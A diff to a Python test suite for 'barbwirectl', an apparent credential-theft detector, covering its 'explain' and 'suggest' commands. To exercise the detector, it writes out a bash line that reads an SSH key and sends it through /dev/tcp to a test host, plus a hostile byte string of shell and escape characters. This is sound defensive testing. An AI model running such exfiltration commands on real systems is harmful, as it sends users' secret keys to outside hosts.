@@ -2,6 +2,7 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 """barbwirectl explain predicts the result of an access; the rule by barbwirectl suggest allows exactly that act."""
 
+import atexit
 import json
 import os
 import re
@@ -31,8 +32,13 @@ HOSTILE = b'odd [x] {a,b}*?\\ "\'#;\n\x1b[2J\xff\xe2\x80\xae\xc3\xa4 '
 class Scene:
     def __init__(self, directory, bw, net, home):
         self.policy, self.bw, self.net, self.home = f"{directory}/policy.d", bw, net, home
-        self.ctl, self.programs = Ctl(f"{directory}/socket"), os.path.join(os.fsdecode(home.root), "programs")
-        os.mkdir(self.programs, 0o755)
+        self.ctl = Ctl(f"{directory}/socket")
+        # Not below /tmp: no rule is suggested for a program that is there for a while.
+        self.programs = tempfile.mkdtemp(prefix="barbwire-test-", dir="/usr/local/lib")
+        os.chmod(self.programs, 0o755)
+
+    def close(self):
+        shutil.rmtree(self.programs)
 
     def install(self, name, source=OUT, mode=0o755):
         """Installs a program that root owns."""
@@ -171,10 +177,12 @@ def suggest_script(s):
         run(False, good)
         run(True, evil)
         run(True, "-I", good)
+    s.refused(run(True, "-I", good), "every script")
     os.chmod(good, 0o666)
-    require("Users other than root can change" in s.suggest(run(True, good)), "a script that others may write")
-    text = s.suggest(run(True, "-I", good))
-    require("every script" in text and "Script" not in keys_of(text)[0], text)
+    s.refused(run(True, good), "Users other than root can change")
+    temporary = os.path.join(os.fsdecode(s.home.root), "script.py")
+    shutil.copyfile(evil, temporary)
+    s.refused(run(True, temporary), "Users other than root can change")
 
 
 def suggest_unit(s):
@@ -205,18 +213,21 @@ def suggest_container(s):
 
 
 def suggest_handed_on(s):
-    """The opener is not the sender: a rule with Passes=nothing, with a strong warning; no rule for an interpreter."""
+    """The opener is not the sender: a rule for it would be one for every program that gets the data."""
     exe = s.install("opener", "technique-hand-lineage")
-    text = s.suggest(s.steal(exe, variant="orphan"))
-    section, = keys_of(text)
-    require("Destination" not in section and section["Passes"] == "nothing" and
-            section["Exe"] == os.fsdecode(exe) and "DANGER" in text, text)
-    with s.with_rule(text):
-        s.steal(exe, variant="orphan", alerts=False)
+    s.refused(s.steal(exe, variant="orphan"), f"{os.fsdecode(exe)} opened the files")
     key = s.home.key()[0]
-    alert = s.act([PYTHON, "-c", "import os, socket, sys\nopen(sys.argv[1]).read()\nif os.fork() == 0:\n"
-                   " socket.create_connection((sys.argv[2], 443)); os._exit(0)\nos.wait()", key, HOST_V4], True, key)
-    s.refused(alert, "no narrow rule exists")
+    sender = os.fsdecode(s.install("sender"))
+    alert = s.act(["/bin/bash", "-c", 'cat "$1" | (read -r line; exec 3<>/dev/tcp/$2/443; echo "$line" >&3)', sender,
+                   key, HOST_V4], True, key)
+    s.refused(alert, "/usr/bin/cat opened the files", "Let one program do both")
+
+
+def suggest_temporary(s):
+    exe = os.path.join(os.fsdecode(s.home.root), "dropped")
+    shutil.copyfile(harness.program(OUT), exe)
+    os.chmod(exe, 0o755)
+    s.refused(s.steal(exe), "is a temporary program")
 
 
 def suggest_two_classes(s):
@@ -314,7 +325,7 @@ def explain_rules(s):
         require_equal(s.explain(key, f"--exe={other}")["verdict"]["result"], "alert", "one that its group may write")
         os.chmod(other, 0o755)
         out, _ = s.ctl.expect(0, "explain", f"--policy-dir={s.policy}", link, "--to=192.0.2.7", *full)
-        for wanted in (f"    path         {key}\n", f"by Path=~/.ssh/** ({s.policy}/20-ssh.conf:", ", applies: yes\n",
+        for wanted in (f"    path         {key}\n", f"by Path=/**/.ssh/** ({s.policy}/20-ssh.conf:", ", applies: yes\n",
                        "yes      Script=/opt/job (", "allowed: yes\n", ", in force\n",
                        f"    verdict      silent: {exe} may read it and connect to this destination, "
                        "by [Allow by-all].\n"):
@@ -337,7 +348,8 @@ def explain_files(s):
                          "silent: excluded by ExcludePath=."), ("/etc", "silent: a directory; give a file in it.")):
         said = s.explain(path)
         require_equal((said["verdict"]["text"], said["score"], said["mark"]), (result, None, "no"), path)
-    require_equal(s.explain("/no/such/.ssh/id")["classes"], [], "not in a home")
+    require_equal(s.explain("/no/such/.npmrc")["classes"], [], "not in a home")
+    require_equal([c["name"] for c in s.explain("/no/such/.ssh/id")["classes"]], [CLASS], "a key, wherever it is")
     require_equal([c["name"] for c in s.explain("/home/no-such/.ssh/id")["classes"]], [CLASS], "a file that is to come")
     path = s.home.key(HOSTILE)[0]
     out, _ = s.ctl.expect(0, "explain", f"--policy-dir={s.policy}", path)
@@ -355,7 +367,7 @@ def explain_alone(directory):
             out + err)
     for args in ([], ["a", "b"], ["no/such/file"], ["/x", "--to=any:1"], ["/x", "--to=loopback"],
                  ["/x", "--to=1.2.3.0/24"],
-                 ["/x", "--to=1.2.3.4:1-2"], ["/x", "--user=no-such-user"], ["/x", "-n1"], ["/x", "--uid=0"],
+                 ["/x", "--to=1.2.3.4:1-2"], ["/x", "--user=no-such-user"], ["/x", "-n1"], ["/x", "--uid=no-such"],
                  ["/x", "--exe=ssh"], ["/x"] + ["--ancestor=/bin/sh"] * 9, ["/x"] + ["--policy-dir=/"] * 17):
         require(not ctl.expect(2, "explain", *args)[0], args)
     for args in (["status", "--exe=x"], ["alerts", "--to=1.2.3.4"], ["suggest"], ["suggest", "x", "--unit=x"]):
@@ -369,6 +381,47 @@ def explain_alone(directory):
         require(f"{bad}/50-bad.conf:3:7: " in err and "class        bad\n" in out, out + err)
 
 
+def explain_homes(directory):
+    """A program of the file's own user. Without the daemon."""
+    ctl, policy, owner = Ctl(f"{directory}/nobody"), f"{directory}/policy.d", NOBODY
+    with harness.Home() as home:
+        path = os.path.join(os.fsdecode(home.path), ".cargo/credentials.toml")
+        exe = os.path.join(os.fsdecode(home.path), ".cargo/bin/cargo")
+        os.makedirs(os.path.dirname(exe))
+        for name in (path, exe):
+            shutil.copyfile(harness.program(OUT), name)
+        os.chmod(exe, 0o755)
+        for name in (home.path, os.path.dirname(path), os.path.dirname(exe), path, exe):
+            os.chown(name, owner, owner)
+
+        def verdict(to="192.0.2.7", *more):
+            said = json.loads(ctl.expect(0, "--json=short", "explain", f"--policy-dir={policy}", path, f"--exe={exe}",
+                                         f"--to={to}", *more)[0])
+            rule = next(r for r in said["rules"] if r["name"] == "home-cargo")
+            require_equal(rule["level"], "user", "the level of the rule")
+            return said["verdict"]["result"], rule["conditions"][0]["text"]
+
+        kept, changed = "can be changed by root and the user of the file only", \
+            "can be changed by others than root and the user of the file"
+        require_equal(verdict(), ("silent", kept), "her own")
+        require_equal(verdict("192.0.2.7", f"--user={owner}"), ("silent", kept), "her own, by number")
+        require_equal(verdict("192.0.2.7:9999")[0], "alert", "another port")
+        require_equal(verdict("192.0.2.7", "--user=root"), ("alert", "the file is not the user's"), "root")
+        for name, mode in ((exe, 0o757), (os.path.dirname(exe), 0o777), (os.path.dirname(path), 0o707)):
+            before = os.stat(name).st_mode & 0o7777
+            os.chmod(name, mode)
+            require_equal(verdict(), ("alert", changed), f"{name} with mode {mode:o}")
+            os.chmod(name, before)
+        os.chmod(exe, 0o775)
+        require_equal(verdict(), ("silent", kept), "a private group")
+        os.chown(exe, owner, 0)
+        require_equal(verdict(), ("alert", changed), "another group")
+        os.chown(path, 1, 1)
+        require_equal(verdict(), ("alert", changed), "the file of another user")
+        text = ctl.expect(0, "explain", f"--policy-dir={policy}", path, f"--exe={exe}")[0]
+        require("of the user level: for a program and a file of one user\n" in text, text)
+
+
 def main():
     harness.require_host()
     t = tap.Tap()
@@ -377,15 +430,19 @@ def main():
         policy = f"{directory}/policy.d"
         shutil.copytree(harness.DEFAULT_POLICY, policy)
         t.case("explain: without the daemon, wrong usage, a bad policy", explain_alone, directory)
+        t.case("explain: a program in a home", explain_homes, directory)
         with Net() as net, harness.Home() as home, \
                 harness.Barbwired(policy_dirs=(policy,), args=(f"--listen={directory}/socket",)) as bw:
             s = Scene(directory, bw, net, home)
+            atexit.register(s.close)
             for name, case in (("explain: files", explain_files), ("explain: rules and conditions", explain_rules),
                                ("explain: as it happens", explain_as_it_happens), ("suggest: a program", suggest_plain),
                                ("suggest: a hostile name", suggest_hostile_name),
                                ("suggest: a user, IPv6", suggest_v6_user), ("suggest: a script", suggest_script),
                                ("suggest: a unit", suggest_unit), ("suggest: a container", suggest_container),
-                               ("suggest: handed on", suggest_handed_on), ("suggest: two classes", suggest_two_classes),
+                               ("suggest: handed on", suggest_handed_on),
+                               ("suggest: a temporary program", suggest_temporary),
+                               ("suggest: two classes", suggest_two_classes),
                                ("suggest: no rule applies", suggest_none)):
                 t.case(name, case, s)
             t.case("the daemon exits successfully", lambda: (bw.stop(), bw.require_no_loss()))
